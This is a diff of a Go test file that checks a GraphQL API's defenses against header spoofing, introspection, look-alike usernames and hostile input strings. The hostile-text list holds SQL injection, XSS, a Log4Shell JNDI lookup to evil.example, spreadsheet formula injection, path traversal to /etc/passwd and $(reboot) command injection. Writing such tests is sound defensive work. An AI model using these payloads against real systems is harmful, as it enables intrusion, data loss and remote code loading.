+			header: map[string]string{"Proxy-Authorization": "Bearer " + f.mallory}, code: "UNAUTHENTICATED"},
+		"an identity in proxy headers": {body: mutation,
+			header: map[string]string{"X-Forwarded-User": "ada", "X-Remote-User": "ada"}, code: "UNAUTHENTICATED"},
+		"introspection": {body: `{"query":"{ __schema { types { name } } }"}`,
+			code: "GRAPHQL_VALIDATION_FAILED"},
+		"the playground outside development": {method: "GET", target: "/", status: 404},
 	})
 }
 
 func upgrade(origin string) map[string]string {
-	return map[string]string{"Origin": origin, "Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13",
-		"Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Protocol": "graphql-transport-ws"}
+	return map[string]string{"Origin": origin, "Connection": "Upgrade", "Upgrade": "websocket",
+		"Sec-WebSocket-Version": "13",
+		"Sec-WebSocket-Key":     "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Protocol": "graphql-transport-ws"}
 }
 
 // Usernames that look like another user's are refused by createUser and updateUser.
@@ -394,19 +479,28 @@ func TestUsernames_LookAlikesAreRefused(t *testing.T) {
 		"the id of a reservation":  "username:ada",
 	} {
 		variables := map[string]any{"u": lookAlike}
-		attacks[name+": rename"] = attack{token: f.mallory, query: `mutation($u: String!) { updateUser(input: {username: $u}) { user { id } } }`, variables: variables, code: "BAD_USER_INPUT"}
-		attacks[name+": create"] = attack{token: f.provider.Token(t, map[string]any{"sub": name}), query: `mutation($u: String!) { createUser(input: {username: $u}) { user { id } } }`, variables: variables, code: "BAD_USER_INPUT"}
-		attacks[name+": look up"] = attack{query: `query($u: String!) { userByUsername(username: $u) { id } }`, variables: variables, data: `{"userByUsername":null}`}
+		attacks[name+": rename"] = attack{token: f.mallory,
+			query: `mutation($u: String!) { updateUser(input: {username: $u}) { user { id } } }`, variables: variables,
+			code: "BAD_USER_INPUT"}
+		attacks[name+": create"] = attack{token: f.provider.Token(t, map[string]any{"sub": name}),
+			query: `mutation($u: String!) { createUser(input: {username: $u}) { user { id } } }`, variables: variables,
+			code: "BAD_USER_INPUT"}
+		attacks[name+": look up"] = attack{query: `query($u: String!) { userByUsername(username: $u) { id } }`,
+			variables: variables, data: `{"userByUsername":null}`}
 	}
-	attacks["another case"] = attack{token: f.mallory, query: `mutation { updateUser(input: {username: "Ada"}) { user { id } } }`, code: "CONFLICT"}
+	attacks["another case"] = attack{token: f.mallory,
+		query: `mutation { updateUser(input: {username: "Ada"}) { user { id } } }`, code: "CONFLICT"}
 	f.run(t, attacks)
 }
 
 // hostileTexts have a meaning in SQL, HTML, shells, templates, formats or terminals.
 var hostileTexts = []string{
-	`'; DROP TABLE posts; --`, `' OR '1'='1`, `" OR ""="`, `x' OR c.type = 'user' --`, `@id`, `{{ .Key }}`, `${jndi:ldap://evil.example/a}`,
-	`<script>alert(1)</script>`, `</script><img src=x onerror=alert(1)>`, `__proto__`, `constructor`, `{"$ne": null}`, `[{"op":"replace"}]`,
-	`\u0000`, `\\`, `%00`, `%s%s%n`, `null`, `undefined`, `true`, `0`, `-1`, `1e999`, `NaN`, `=cmd|' /C calc'!A0`, `../../etc/passwd`, `$(reboot)`, "`reboot`",
+	`'; DROP TABLE posts; --`, `' OR '1'='1`, `" OR ""="`, `x' OR c.type = 'user' --`, `@id`, `{{ .Key }}`,
+	`${jndi:ldap://evil.example/a}`,
+	`<script>alert(1)</script>`, `</script><img src=x onerror=alert(1)>`, `__proto__`, `constructor`, `{"$ne": null}`,
+	`[{"op":"replace"}]`,
+	`\u0000`, `\\`, `%00`, `%s%s%n`, `null`, `undefined`, `true`, `0`, `-1`, `1e999`, `NaN`, `=cmd|' /C calc'!A0`,
+	`../../etc/passwd`, `$(reboot)`, "`reboot`",
 	"a\u2028b\u2029c", "\u202etxet", "👩‍👩‍👧‍👦", "Z̸̛a̵l̶g̷o̸", "\ufeffx", "from c where c.type = 'post'",
 }
 
@@ -462,14 +556,16 @@ func TestHostileTexts_RoundTrip(t *testing.T) {
 		if p.Title != text || p.Content != text || comments && p.Comments.Edges[0].Node.Content != text {
 			t.Errorf("%s: %+v, want %q", where, p, text)
 		}
-		visible := strings.Join(strings.Fields(strings.NewReplacer("__proto__", "proto", "`", "", `\\`, `\`).Replace(text)), " ")
+		visible := strings.Join(
+			strings.Fields(strings.NewReplacer("__proto__", "proto", "`", "", `\\`, `\`).Replace(text)), " ")
 		if p.Excerpt != visible { // without markup
 			t.Errorf("%s: the excerpt is %q, want %q", where, p.Excerpt, visible)
 		}
 	}
 	for id := range maps.Keys(ids) {
 		var got struct{ Post post }
-		if err := json.Unmarshal(do(`query($id: ID!) { post(id: $id) { id title content excerpt comments { edges { node { content } } } } }`, map[string]any{"id": id}).Data, &got); err != nil {
+		if err := json.Unmarshal(
+			do(`query($id: ID!) { post(id: $id) { id title content excerpt comments { edges { node { content } } } } }`, map[string]any{"id": id}).Data, &got); err != nil {
 			t.Fatal(err)
 		}
 		check("post", got.Post, true)
@@ -478,7 +574,8 @@ func TestHostileTexts_RoundTrip(t *testing.T) {
 		Feed   list
 		Viewer struct{ Posts list }
 	}
-	if err := json.Unmarshal(do(`{ feed(first: 100) { edges { node { id title content excerpt } } } viewer { posts(first: 100) { edges { node { id title content excerpt } } } } }`, nil).Data, &got); err != nil {
+	if err := json.Unmarshal(
+		do(`{ feed(first: 100) { edges { node { id title content excerpt } } } viewer { posts(first: 100) { edges { node { id title content excerpt } } } } }`, nil).Data, &got); err != nil {
 		t.Fatal(err)
 	}
 	for where, l := range map[string]list{"feed": got.Feed, "posts of the user": got.Viewer.Posts} {
@@ -496,8 +593,9 @@ func TestHostileTexts_RoundTrip(t *testing.T) {
 	// Ids and cursors refuse all of them.
 	for _, text := range hostileTexts {
 		for field, a := range map[string]attack{
-			"after": {query: `query($t: String!) { feed(after: $t) { edges { cursor } } }`, variables: map[string]any{"t": text}},
-			"id":    {query: `query($t: ID!) { node(id: $t) { id } }`, variables: map[string]any{"t": text}},
+			"after": {query: `query($t: String!) { feed(after: $t) { edges { cursor } } }`,
+				variables: map[string]any{"t": text}},
+			"id": {query: `query($t: ID!) { node(id: $t) { id } }`, variables: map[string]any{"t": text}},
 		} {
 			if got := f.send(a); got.code() != "BAD_USER_INPUT" {
 				t.Errorf("%s %q: %s", field, text, got.body)
